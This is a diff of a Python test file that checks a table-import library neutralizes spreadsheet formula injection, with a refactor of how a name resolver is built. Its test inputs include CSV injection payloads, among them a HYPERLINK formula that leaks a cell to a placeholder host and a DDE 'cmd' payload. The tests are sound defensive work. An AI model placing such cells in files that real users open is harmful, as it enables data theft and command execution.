@@ -16,7 +16,7 @@ from cica_graph import Graph
 from cica_graph.files.table_writer import TableWriter, guard, to_csv, unguard
 from cica_graph.formats.tables import render
 from cica_graph.imports.table import convert
-from cica_graph.imports.table_names import Resolver, decisions, roles
+from cica_graph.imports.table_names import Resolver, decisions
 
 RUN = [
     "=1+1", '=HYPERLINK("https://e.example/?x="&A1)', "+1-1", "-2+3 cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
@@ -91,7 +91,7 @@ def cells(path: Path) -> list[str]:
 
 @pytest.mark.parametrize("evil", ["-2+3 cmd", "=1+1", "@x", "＝1+1", ' "=1+1'])
 def test_an_import_leaves_no_runnable_cell(tmp_path: Path, graph: Graph, evil: str) -> None:
-    resolver = Resolver(graph.names, roles(graph.store), {})
+    resolver = Resolver(graph.store)
     path, quoted = tmp_path / "rows.csv", evil.replace('"', '""')
     path.write_text(
         f'member,organization,start,source\n"{quoted}",CICA,2001,"{quoted}"\nKAZ,"{quoted}",2001,\nKAZ,CICA,"{quoted}",\n',
@@ -111,8 +111,8 @@ def test_an_import_leaves_no_runnable_cell(tmp_path: Path, graph: Graph, evil: s
         writer = csv.DictWriter(file, list(rows[0]), delimiter="\t")
         writer.writeheader()
         writer.writerows({**row, "use": "CICA" if row["part"] == "organization" else "KAZ"} for row in rows)
-    decided = Resolver(graph.names, roles(graph.store), decisions(unresolved, resolver))
-    again = convert(outcome.written[1], decided, tmp_path / "again", columns={})
+    resolver.decide(decisions(unresolved, resolver))
+    again = convert(outcome.written[1], resolver, tmp_path / "again", columns={})
     assert (again.kept, again.rejected.total()) == (2, 1)
     titles = re.findall(r'title "((?:[^"\\]|\\.)*)"@en', again.written[0].read_text("utf-8"))
     assert evil.strip() in [title.replace('\\"', '"') for title in titles]
